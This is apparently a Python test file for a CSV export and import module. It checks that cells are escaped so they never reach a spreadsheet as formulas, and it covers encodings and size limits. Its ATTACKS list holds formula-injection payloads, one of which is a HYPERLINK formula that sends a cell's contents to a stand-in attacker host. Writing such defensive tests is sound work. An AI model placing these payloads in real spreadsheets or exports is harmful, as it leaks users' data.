"""The one CSV writer and reader: no cell reaches a spreadsheet as a formula, and reading undoes exactly that."""
from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot import csvsafe
from bot.core.problems import Invalid

ATTACKS = ['=HYPERLINK("http://ev.il/?"&A2,"x")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1",
           "＝HYPERLINK(\"http://ev.il\")", "＋1", "－1", "＠SUM(A1)"]


def _cells(raw: bytes) -> list[list[str]]:
    """Return the cells exactly as a spreadsheet receives them (no unescaping)."""
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_cell_reaches_the_spreadsheet_as_text(text):
    raw = csvsafe.to_bytes(["タイトル"], [[text]])
    cell = _cells(raw)[1][0]
    assert cell == "'" + text
    assert csvsafe.read(raw).rows == [(2, [text])]


@pytest.mark.parametrize("text", ["'abc", "''", "'=1+1", "'", "it's", "普通の文", "", "1-2", "a=b"])
def test_texts_that_need_no_quote_or_begin_with_one_survive_a_round_trip(text):
    raw = csvsafe.to_bytes(["x"], [[text]])
    assert csvsafe.read(raw).rows == [(2, [text])]
    # A quote is added only where it is needed, so plain text stays readable in Excel.
    assert _cells(raw)[1][0] == ("'" + text if text.startswith(("'", "=")) else text)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from("=+-@'\t\r＝＋－＠ a\n,\"あ"), max_size=8), min_size=1, max_size=4))
def test_every_row_round_trips_and_no_cell_starts_like_a_formula(row):
    raw = csvsafe.to_bytes(["a"] * len(row), [row])
    for cell in _cells(raw)[1]:
        assert not cell.startswith(csvsafe.FORMULA_START)
    assert csvsafe.read(raw).rows == [(2, row)]


def test_export_has_a_bom_and_crlf_lines():
    raw = csvsafe.to_bytes(["見出し"], [["値"]])
    assert raw.startswith(b"\xef\xbb\xbf") and raw.endswith(b"\r\n")


def test_shift_jis_is_read_and_named():
    table = csvsafe.read("識別名,タイトル\r\nlunch,給食費\r\n".encode("cp932"))
    assert table.encoding == "cp932" and table.header == ["識別名", "タイトル"] and table.rows == [(2, ["lunch", "給食費"])]
    assert csvsafe.read("識別名\r\nx\r\n".encode("utf-8")).encoding == "utf-8"  # UTF-8 without a BOM


def test_a_cell_of_200000_characters_is_a_clear_error():
    raw = ("識別名,回答\r\nlunch," + "あ" * 200_000 + "\r\n").encode("utf-8-sig")
    with pytest.raises(Invalid, match="2行目に長すぎるセル"):
        csvsafe.read(raw)


def test_nul_is_a_clear_error():
    with pytest.raises(Invalid, match="3行目に制御文字"):
        csvsafe.read("識別名\r\na\r\nb\x00c\r\n".encode())


def test_bytes_in_no_known_encoding_are_a_clear_error():
    with pytest.raises(Invalid, match="文字コード"):
        csvsafe.read(b"\xff\xfe\x81\x00\xfd")


def test_too_many_rows_stop_early():
    raw = csvsafe.to_bytes(["a"], [[str(i)] for i in range(11)])
    with pytest.raises(Invalid, match="10件まで"):
        csvsafe.read(raw, max_rows=10)
